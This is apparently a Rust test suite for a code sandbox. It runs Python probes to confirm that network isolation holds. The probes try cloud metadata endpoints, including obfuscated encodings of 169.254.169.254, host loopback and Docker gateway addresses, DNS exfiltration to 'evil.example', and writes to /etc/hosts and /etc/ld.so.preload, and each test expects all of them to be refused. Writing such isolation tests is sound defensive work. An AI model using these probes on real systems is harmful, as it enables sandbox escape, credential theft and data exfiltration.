//! Code that looks for a way to the network, and to what listens on the host.

use std::net::{IpAddr, SocketAddr, UdpSocket};

use sandbox_core::{NetworkMode, NetworkPolicy, Sandbox};

use super::support::{all_denied, found, on_host};
use crate::case::{Case, Checked, cases, ensure, ensure_eq};
use crate::fixture::Fixture;
use crate::support::ok;

pub(super) fn cases() -> Vec<Case> {
    cases!("reach", [run_code, local], {
        e114_addresses_outside_are_unreachable_at_once needs network_none, contained;
        e116_metadata_under_every_policy needs strict, network_allowlist, network_all;
        e117_canaries_hear_nothing needs network_none, contained;
        e117_canaries_hear_nothing_through_a_gate needs strict, network_all;
        e119_names_carry_nothing_out needs network_none, contained;
        e124_names_cannot_be_redirected needs strict;
        e131_ports_of_the_system needs strict;
        the_interface_stays_as_it_is needs strict;
        interfaces_are_not_changed_by_netlink needs strict;
        forged_packets needs strict;
    })
}

async fn closed(f: &Fixture) -> Checked<Sandbox> {
    f.create(|b| b.network(NetworkPolicy { mode: NetworkMode::None, ..NetworkPolicy::default() }))
        .await
}

/// Tries to connect; `probes` by address.
fn connecting(addresses: &[String]) -> String {
    format!(
        "
def connect(address):
    host, port = address.rsplit(':', 1)
    with socket.create_connection((host, int(port)), 2) as s:
        s.sendall(b'x')
        return s.recv(1) or call(-1)
probes = {{a: (lambda a=a: connect(a)) for a in {addresses:?}}}"
    )
}

async fn e114_addresses_outside_are_unreachable_at_once(f: Fixture) -> Checked {
    let sandbox = closed(&f).await?;
    let addresses = ["198.51.100.1:80", "198.51.100.1:53", "192.0.2.1:443", "2001:db8::1:80"];
    let probes = connecting(&addresses.map(str::to_owned));
    let timed = format!(
        "{probes}\nstart = time.monotonic()\nfor probe in probes.values(): tried(probe)\nprint(time.monotonic() - start)"
    );
    let took = found(&sandbox, &timed).await?;
    ensure!(took.as_f64().is_some_and(|took| took < 2.0), "it took {took} s");
    all_denied(&sandbox, &probes).await
}

/// The metadata service of clouds.
const METADATA: [&str; 5] = [
    "169.254.169.254:80",
    "fd00:ec2::254:80",
    "100.100.100.200:80",
    "169.254.170.2:80",
    "metadata.google.internal:80",
];

async fn e116_metadata_under_every_policy(f: Fixture) -> Checked {
    for mode in [NetworkMode::None, NetworkMode::Allowlist, NetworkMode::All] {
        let mut policy = NetworkPolicy { mode, ..NetworkPolicy::default() };
        if mode == NetworkMode::Allowlist {
            policy.allow.push("example.com".parse()?);
        }
        let sandbox = f.create(|b| b.network(policy)).await?;
        let code = format!(
            "
def got(address):
    host, port = address.rsplit(':', 1)
    try:
        with socket.create_connection((host, int(port)), 5) as s:
            s.settimeout(5)
            s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
            return len(s.recv(100))
    except OSError: return 0
print(json.dumps([a for a in {METADATA:?} + ['2852039166:80', '0xA9FEA9FE:80', '0251.0376.0251.0376:80', '[::ffff:169.254.169.254]:80'] if got(a.strip('[]').replace(']:', ':'))]))"
        );
        let found = found(&sandbox, &code).await?;
        ensure_eq!(found.as_array().map(Vec::len), Some(0), "answers under {mode:?}: {found}");
    }
    Ok(())
}

/// Addresses of this host, beside its loopback.
fn own_addresses() -> Vec<IpAddr> {
    // Connecting a socket for datagrams sends nothing.
    let found = ["198.51.100.1:9", "[2001:db8::1]:9"].iter().filter_map(|there| {
        let here = if there.starts_with('[') { "[::]:0" } else { "0.0.0.0:0" };
        let socket = UdpSocket::bind(here).ok()?;
        socket.connect(there).ok()?;
        socket.local_addr().ok().map(|address| address.ip())
    });
    found.collect()
}

/// Everything that a canary could be reached by, as probes.
fn reaching(f: &Fixture) -> Checked<String> {
    let canaries = f.canaries()?;
    let port = |address: SocketAddr| address.port();
    let mut hosts: Vec<String> = own_addresses().iter().map(ToString::to_string).collect();
    let usual = [
        "127.0.0.1",
        "0.0.0.0",
        "localhost",
        "::ffff:127.0.0.1",
        "127.1",
        "2130706433",
        "172.17.0.1",
        "10.0.2.2",
        "host.docker.internal",
        "gateway.docker.internal",
    ];
    hosts.extend(usual.map(str::to_owned));
    Ok(format!(
        "
def stream(host):
    with socket.create_connection((host, {tcp}), 2) as s:
        s.sendall(b'x')
        return s.recv(1) or call(-1)
def packet(host):
    family, kind, _, _, address = socket.getaddrinfo(host, {udp}, type=socket.SOCK_DGRAM)[0]
    s = socket.socket(family, kind)
    s.sendto(b'x', address)
    return call(-1)
def local(path, kind):
    s = socket.socket(socket.AF_UNIX, kind)
    s.connect(path)
probes = {{}}
for host in {hosts:?}:
    probes['stream ' + host] = lambda host=host: stream(host)
    probes['packet ' + host] = lambda host=host: packet(host)
for name, path in [('path', {socket:?}), ('name', '\\0' + {name:?}), ('root', '/proc/1/root' + {socket:?})]:
    probes['unix ' + name] = lambda path=path: local(path, socket.SOCK_STREAM)",
        tcp = port(canaries.tcp),
        udp = port(canaries.udp),
        socket = canaries.socket.display().to_string(),
        name = canaries.name,
    ))
}

async fn e117_canaries_hear_nothing(f: Fixture) -> Checked {
    let sandbox = closed(&f).await?;
    // Names that do not resolve are as good as a refusal; what matters is which server hears.
    let probes = reaching(&f)?;
    let code = format!("{probes}\nprint(json.dumps({{n: tried(p) for n, p in probes.items()}}))");
    let outcome = found(&sandbox, &code).await?;
    ensure!(outcome.as_object().is_some_and(|all| all.len() > 15), "{outcome}");
    f.is_untouched()
}

async fn e117_canaries_hear_nothing_through_a_gate(f: Fixture) -> Checked {
    let policy = NetworkPolicy { mode: NetworkMode::All, ..NetworkPolicy::default() };
    let sandbox = f.create(|b| b.network(policy)).await?;
    let probes = reaching(&f)?;
    let code = format!("{probes}\nprint(json.dumps({{n: tried(p) for n, p in probes.items()}}))");
    found(&sandbox, &code).await?;
    f.is_untouched()
}

async fn e119_names_carry_nothing_out(f: Fixture) -> Checked {
    let sandbox = closed(&f).await?;
    let code = "
start, seen = time.monotonic(), []
for name in ['c2VjcmV0.evil.example', 'x' * 60 + '.example', 'localhost.evil.example']:
    try: seen.append(socket.getaddrinfo(name, 80))
    except OSError: pass
for server in ['127.0.0.53', '127.0.0.1', '127.0.0.11', '198.51.100.53']:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) if not tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)).startswith('E') else None
    if s is None: continue
    s.settimeout(0.3)
    question = b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x06secret\\x04evil\\x07example\\x00\\x00\\x01\\x00\\x01'
    try: s.sendto(question, (server, 53)); seen.append(s.recv(100).hex())
    except OSError: pass
print(json.dumps([time.monotonic() - start, len(seen)]))";
    let outcome = found(&sandbox, code).await?;
    ensure!(outcome[0].as_f64().is_some_and(|took| took < 5.0), "{outcome}");
    ensure_eq!(outcome[1].as_u64(), Some(0), "answers");
    Ok(())
}

async fn e124_names_cannot_be_redirected(f: Fixture) -> Checked {
    let sandbox = f.sandbox().await?;
    let probes = "
probes = {path: (lambda path=path: os.write(os.open(path, os.O_WRONLY | os.O_CREAT), b'198.51.100.1 example.com'))
    for path in ['/etc/hosts', '/etc/resolv.conf', '/etc/nsswitch.conf', '/etc/host.conf', '/etc/gai.conf', '/etc/ld.so.preload']}
probes |= {'replace': lambda: os.rename('/tmp', '/etc'), 'link': lambda: os.symlink('/tmp/hosts', '/etc/hosts2')}";
    all_denied(&sandbox, probes).await
}

async fn e131_ports_of_the_system(f: Fixture) -> Checked {
    // Whatever it may bind is its own loopback's, and no port of the host is taken by it.
    let probes = "
def bound(host, port, kind):
    s = socket.socket(socket.AF_INET, kind)
    s.bind((host, port))
    return 'bound'
probes = {f'{host}:{port} {kind}': (lambda h=host, p=port, k=kind: bound(h, p, k))
    for port in [1, 53, 80, 443] for host in ['0.0.0.0', '127.0.0.1', '127.0.0.53'] for kind in (1, 2)}";
    let sandbox = f.sandbox().await?;
    let isolation = sandbox.info().isolation;
    // In a container they are its own, and nothing else listens there.
    if isolation.is_some_and(|isolation| isolation.boundary == "cell") {
        all_denied(&sandbox, probes).await?;
        // Nor where a gate answers there, which code could otherwise take the place of.
        let policy = NetworkPolicy::allowlist(["example.com"])?;
        let gated = f.create(|b| b.network(policy)).await?;
        all_denied(&gated, probes).await?;
        // The control: any other port is its own to take.
        let free = "s = socket.socket(); s.bind(('0.0.0.0', 8080)); s.listen(); print(json.dumps('bound'))";
        ensure_eq!(found(&gated, free).await?, "bound");
    }
    ok(&sandbox, "import socket").await?;
    let port = f.canaries()?.tcp.port();
    ok(&sandbox, &format!("s = socket.socket(); s.bind(('0.0.0.0', {port})); s.listen()")).await?;
    Ok(())
}

async fn the_interface_stays_as_it_is(f: Fixture) -> Checked {
    let sandbox = f.sandbox().await?;
    let probes = "
import fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
request = lambda number, data: (lambda: fcntl.ioctl(s, number, data))
probes = {
    'down': request(0x8914, struct.pack('16sH14x', b'lo', 0)), 'address': request(0x8916, struct.pack('16sHH4s8x', b'lo', 2, 0, bytes([10, 0, 0, 1]))),
    'route': request(0x890b, bytes(120)), 'bridge': request(0x89a0, b'br0' + bytes(13)), 'tun': lambda: os.open('/dev/net/tun', os.O_RDWR),
    'bind device': lambda: s.setsockopt(1, 62, struct.pack('I', 99)) or call(-1), 'mark': lambda: s.setsockopt(1, 36, 1) or None,
    'transparent': lambda: s.setsockopt(0, 19, 1) or None, 'force buffer': lambda: s.setsockopt(1, 33, 1 << 30) or None,
    'iptables': lambda: socket.socket(2, 3, 255).setsockopt(0, 64, bytes(100)), 'arp': request(0x8955, bytes(68)),
    'ifname': request(0x8923, struct.pack('16s16s8x', b'lo', b'evil')), 'hardware': request(0x8924, struct.pack('16sH14x8x', b'lo', 1)),
}";
    all_denied(&sandbox, probes).await
}

async fn interfaces_are_not_changed_by_netlink(f: Fixture) -> Checked {
    // Where netlink may be asked for interfaces at all, everything else is refused: links, addresses, routes, neighbours,
    // rules, queues, names of namespaces, and the interfaces of another namespace.
    let probes = "
def ask(kind, body=bytes(32), flags=0x405):
    s = socket.socket(16, 3, 0)
    s.settimeout(5)
    s.send(struct.pack('IHHII', 16 + len(body), kind, flags, 1, 0) + body)
    answer = s.recv(1 << 16)
    code = struct.unpack_from('i', answer, 16)[0] if struct.unpack_from('H', answer, 4)[0] == 2 else 0
    if code: raise OSError(-code, os.strerror(-code))
    return len(answer)
def join():
    s = socket.socket(16, 3, 0)
    s.setsockopt(270, 1, 1)
kinds = dict(link=16, unlink=17, set=19, address=20, unaddress=21, route=24, unroute=25, neighbour=28, rule=32, queue=36, namespace=88, nexthop=104)
probes = {name: (lambda kind=kind: ask(kind)) for name, kind in kinds.items()}
probes['group'] = join
probes['another namespace'] = lambda: ask(18, struct.pack('BxHiII', 0, 0, 0, 0, 0) + struct.pack('HHi', 8, 46, 0), 1)";
    let control = "probes = {'read': lambda: ask(18, bytes(16), 0x301)}";
    let control = on_host(&format!("{probes}\n{control}"))?;
    ensure!(control.iter().all(|(_, outcome)| !outcome.starts_with('E')), "control: {control:?}");
    all_denied(&f.sandbox().await?, probes).await
}

async fn forged_packets(f: Fixture) -> Checked {
    let sandbox = f.sandbox().await?;
    let probes = "
probes = {f'{family} {kind} {protocol}': (lambda f=family, k=kind, p=protocol: socket.socket(f, k, p))
    for family in (2, 10, 17) for kind in (3, 10) for protocol in (1, 6, 17, 58, 255, 768)}";
    all_denied(&sandbox, probes).await
}
